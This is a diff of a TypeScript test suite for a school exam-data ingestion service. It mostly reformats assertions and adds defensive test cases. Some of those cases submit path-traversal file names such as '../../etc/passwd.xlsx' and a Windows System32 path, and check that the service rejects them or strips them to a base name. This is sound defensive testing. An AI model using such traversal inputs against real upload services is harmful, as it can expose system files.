-  { file: '58-результаты ОГЭ без кода экзамена в имени.csv', status: 'rejected', format: 'rcoi-gia9-csv', message: /по имени нельзя определить экзамен/ },
+  {
+    file: '57-path-traversal.xlsx',
+    name: '../../etc/passwd.xlsx',
+    status: 'rejected',
+    message: /«passwd\.xlsx» не является ни книгой Excel/,
+  },
+  {
+    file: '10-legacy.xls',
+    name: '..\\..\\Windows\\System32\\config.xls',
+    status: 'rejected',
+    message: /«config\.xls» — книга Excel старого формата/,
+  },
+  {
+    file: '58-результаты ОГЭ без кода экзамена в имени.csv',
+    status: 'rejected',
+    format: 'rcoi-gia9-csv',
+    message: /по имени нельзя определить экзамен/,
+  },
 
   // --- programme workbooks load all or nothing; a roadmap needs its school
-  { file: '59-программа неизвестный показатель и статус.xlsx', status: 'rejected', format: 'programme-workbook',
-    message: /2 ошибки в данных программы \(первая — Лист «Показатели», строка 3, столбец «Показатель \(A\)»: показатель «Средний балл по журналу» не найден в справочнике/,
-    rowErrors: [{ sheet: 'Показатели', row: 3, column: /Показатель/ }, { sheet: 'Дорожная карта', row: 2, column: /Статус/ }] },
-  { file: '60-дорожная карта без кода ОО.xlsx', status: 'rejected', format: 'programme-workbook', message: /не указана ОО \(лист «Дорожная карта», строка 2\): заполните «Код ОО»/ },
+  {
+    file: '59-программа неизвестный показатель и статус.xlsx',
+    status: 'rejected',
+    format: 'programme-workbook',
+    message:
+      /2 ошибки в данных программы \(первая — Лист «Показатели», строка 3, столбец «Показатель \(A\)»: показатель «Средний балл по журналу» не найден в справочнике/,
+    rowErrors: [
+      { sheet: 'Показатели', row: 3, column: /Показатель/ },
+      { sheet: 'Дорожная карта', row: 2, column: /Статус/ },
+    ],
+  },
+  {
+    file: '60-дорожная карта без кода ОО.xlsx',
+    status: 'rejected',
+    format: 'programme-workbook',
+    message: /не указана ОО \(лист «Дорожная карта», строка 2\): заполните «Код ОО»/,
+  },
 ];
 
 let store: Store;
-beforeAll(async () => { store = await preloadedStore(); });
+beforeAll(async () => {
+  store = await preloadedStore();
+});
 afterAll(async () => closeStore(store));
 
 describe('report wording', () => {
   it('declines «строка» by number', () => {
-    expect([1, 2, 4, 5, 11, 12, 21, 22, 25, 101, 111].map((n) => `${n} ${plural(n, ['строка', 'строки', 'строк'])}`)).toEqual(
-      ['1 строка', '2 строки', '4 строки', '5 строк', '11 строк', '12 строк', '21 строка', '22 строки', '25 строк', '101 строка', '111 строк']);
+    expect(
+      [1, 2, 4, 5, 11, 12, 21, 22, 25, 101, 111].map((n) => `${n} ${plural(n, ['строка', 'строки', 'строк'])}`),
+    ).toEqual([
+      '1 строка',
+      '2 строки',
+      '4 строки',
+      '5 строк',
+      '11 строк',
+      '12 строк',
+      '21 строка',
+      '22 строки',
+      '25 строк',
+      '101 строка',
+      '111 строк',
+    ]);
     expect(partialMessage(3)).toBe('загружен частично: 3 строки исключены (см. замечания).');
   });
 });
@@ -221,7 +609,13 @@ describe.each(CASES)('$file → $status', (c) => {
     const rows = await ledger(store);
     expect(rows).toHaveLength(uploadsBefore + 1);
     const mine = rows.at(-1)!;
-    expect(mine).toMatchObject({ upload_id: r.uploadId, file_name: base, status: c.status, message: r.message, rows_rejected: r.rowsRejected });
+    expect(mine).toMatchObject({
+      upload_id: r.uploadId,
+      file_name: base,
+      status: c.status,
+      message: r.message,
+      rows_rejected: r.rowsRejected,
+    });
 
     if (c.status === 'rejected') {
       expect(r.message).toMatch(/^отклонён: /);
@@ -232,7 +626,8 @@ describe.each(CASES)('$file → $status', (c) => {
     } else {
       // Only rows of this upload are new; no earlier row was replaced or touched.
       const skip = c.table === 'schools' ? ['school_ids'] : [];
-      const without = (x: Record<string, string>) => Object.fromEntries(Object.entries(x).filter(([k]) => !skip.includes(k)));
+      const without = (x: Record<string, string>) =>
+        Object.fromEntries(Object.entries(x).filter(([k]) => !skip.includes(k)));
       expect(await checksums(store, r.uploadId, skip)).toEqual(without(before));
       expect(r.rowsReplaced).toBe(0);
       expect(r.rowsLoaded).toBe(c.loaded);
@@ -252,24 +647,61 @@ describe.each(CASES)('$file → $status', (c) => {
         expect(i.column ?? '', i.message).toMatch(e.column);
         expect(i.message).toMatch(new RegExp(`строка ${e.row}\\b`, 'i'));
         expect(i.message).toMatch(e.column);
-        if (e.sheet) { expect(i.sheet).toBe(e.sheet); expect(i.message).toContain(`«${e.sheet}»`); }
+        if (e.sheet) {
+          expect(i.sheet).toBe(e.sheet);
+          expect(i.message).toContain(`«${e.sheet}»`);
+        }
       }
     }
-    for (const w of c.warnings ?? []) expect(r.issues.filter((i) => i.severity === 'warning').map((i) => i.message).join('\n')).toMatch(w);
+    for (const w of c.warnings ?? [])
+      expect(
+        r.issues
+          .filter((i) => i.severity === 'warning')
+          .map((i) => i.message)
+          .join('\n'),
+      ).toMatch(w);
     await c.check?.(store, r);
   });
 });
 
 describe('the preloaded samples survive the whole corpus', () => {
   it('still holds every sample row', async () => {
-    expect(Number(await one(store, `SELECT count(*) FROM pupil_results p JOIN uploads u USING (upload_id) WHERE u.file_name LIKE 'fisoko_%' OR u.file_name LIKE 'Проведение работы по математике, 4 класс%'`))).toBe(15 + 14 + 1161 + 274 + 342 + 20);
-    expect(Number(await one(store, `SELECT count(*) FROM aggregate_results a JOIN uploads u USING (upload_id) WHERE u.file_name LIKE 'moscow_%'`))).toBe(626 + 7471);
-    expect(Number(await one(store, `SELECT count(*) FROM journal_marks j JOIN uploads u USING (upload_id) WHERE u.file_name LIKE 'ejournal_%'`))).toBe(2345);
+    expect(
+      Number(
+        await one(
+          store,
+          `SELECT count(*) FROM pupil_results p JOIN uploads u USING (upload_id) WHERE u.file_name LIKE 'fisoko_%' OR u.file_name LIKE 'Проведение работы по математике, 4 класс%'`,
+        ),
+      ),
+    ).toBe(15 + 14 + 1161 + 274 + 342 + 20);
+    expect(
+      Number(
+        await one(
+          store,
+          `SELECT count(*) FROM aggregate_results a JOIN uploads u USING (upload_id) WHERE u.file_name LIKE 'moscow_%'`,
+        ),
+      ),
+    ).toBe(626 + 7471);
+    expect(
+      Number(
+        await one(
+          store,
+          `SELECT count(*) FROM journal_marks j JOIN uploads u USING (upload_id) WHERE u.file_name LIKE 'ejournal_%'`,
+        ),
+      ),
+    ).toBe(2345);
   });
 
   it('a file arriving under a traversal path that loads is stored under its base name', async () => {
-    const bytes = Buffer.concat([readFileSync(join(BAD_DIR, '55-реестр ОО XSS и формулы.csv')), Buffer.from('9799;МБОУ «Энская СОШ № 99»;Энский район\r\n')]);
-    const r = await ingestFile(store, FORMATS, { bytes, fileName: '../../../var/lib/orientir/реестр ОО.csv', channel: 'web' });
+    const bytes = Buffer.concat([
+      readFileSync(join(BAD_DIR, '55-реестр ОО XSS и формулы.csv')),
+      Buffer.from('9799;МБОУ «Энская СОШ № 99»;Энский район\r\n'),
+    ]);
+    const r = await ingestFile(store, FORMATS, {
+      bytes,
+      fileName: '../../../var/lib/orientir/реестр ОО.csv',
+      channel: 'web',
+    });
     expect([r.status, r.fileName]).toEqual(['loaded', 'реестр ОО.csv']);
     expect((await ledger(store)).at(-1)).toMatchObject({ file_name: 'реестр ОО.csv', status: 'loaded' });
   });
@@ -278,16 +710,28 @@ describe('the preloaded samples survive the whole corpus', () => {
 // A duplicated header column used to be read from its first occurrence without a word (parser gaps, now closed).
 describe('duplicated header columns', () => {
   let fresh: Store;
-  beforeAll(async () => { fresh = await openStore(':memory:'); });
+  beforeAll(async () => {
+    fresh = await openStore(':memory:');
+  });
   afterAll(async () => closeStore(fresh));
   const rejectsDuplicate = async (file: string, column: string, sheet: string | null, letters: [string, string]) => {
-    const r = await ingestFile(fresh, FORMATS, { bytes: readFileSync(join(BAD_DIR, file)), fileName: file, channel: 'cli' });
+    const r = await ingestFile(fresh, FORMATS, {
+      bytes: readFileSync(join(BAD_DIR, file)),
+      fileName: file,
+      channel: 'cli',
+    });
     expect(r.status).toBe('rejected');
     expect(r.message).toContain(`«${column}»`);
-    expect(r.message).toContain(`Файл «${file}», ${sheet ? `лист «${sheet}», ` : ''}строка 1: столбец «${column}» встречается в шапке дважды — «${column}» (${letters[0]}) и «${column}» (${letters[1]})`);
+    expect(r.message).toContain(
+      `Файл «${file}», ${sheet ? `лист «${sheet}», ` : ''}строка 1: столбец «${column}» встречается в шапке дважды — «${column}» (${letters[0]}) и «${column}» (${letters[1]})`,
+    );
     if (!sheet) expect(r.message).not.toMatch(/лист/i);
-    expect(r.issues.filter((i) => i.scope === 'file').map((i) => [i.sheet, i.rowNo, i.column])).toEqual([[sheet, 1, column]]);
+    expect(r.issues.filter((i) => i.scope === 'file').map((i) => [i.sheet, i.rowNo, i.column])).toEqual([
+      [sheet, 1, column],
+    ]);
   };
-  it('registry (reference/registry.ts): two «Код ОО» columns', () => rejectsDuplicate('35-реестр ОО повтор столбца Код ОО.xlsx', 'Код ОО', 'Реестр', ['A', 'C']));
-  it('ведомость (journal/vedomost.ts): two «Отметка» columns with different marks', () => rejectsDuplicate('36-ведомость повтор столбца Отметка.csv', 'Отметка', null, ['G', 'H']));
+  it('registry (reference/registry.ts): two «Код ОО» columns', () =>
+    rejectsDuplicate('35-реестр ОО повтор столбца Код ОО.xlsx', 'Код ОО', 'Реестр', ['A', 'C']));
+  it('ведомость (journal/vedomost.ts): two «Отметка» columns with different marks', () =>
+    rejectsDuplicate('36-ведомость повтор столбца Отметка.csv', 'Отметка', null, ['G', 'H']));
 });
